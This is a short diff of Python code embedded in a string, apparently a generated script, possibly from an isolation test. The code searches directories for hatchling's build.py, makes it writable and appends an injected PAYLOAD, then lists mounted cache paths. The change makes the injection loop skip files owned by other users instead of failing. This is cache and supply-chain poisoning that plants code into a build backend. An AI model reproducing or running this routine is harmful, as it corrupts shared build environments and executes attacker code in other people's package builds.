@@ -48,8 +48,11 @@ for root in filter(None, roots):
     for directory, _, names in os.walk(root):
         path = pathlib.Path(directory, "build.py")
         if path.parent.name == "hatchling" and path.name in names:
-            path.chmod(0o644)
-            path.write_text(path.read_text() + "\\nimport pathlib\\n" + PAYLOAD)
+            try:
+                path.chmod(0o644)
+                path.write_text(path.read_text() + "\\nimport pathlib\\n" + PAYLOAD)
+            except PermissionError:  # it belongs to another user
+                continue
 mounted = [line.split()[1] for line in open("/proc/self/mounts") if "/cache" in line.split()[1]]
 print("@WHO@ found mounted:", mounted)
 '''
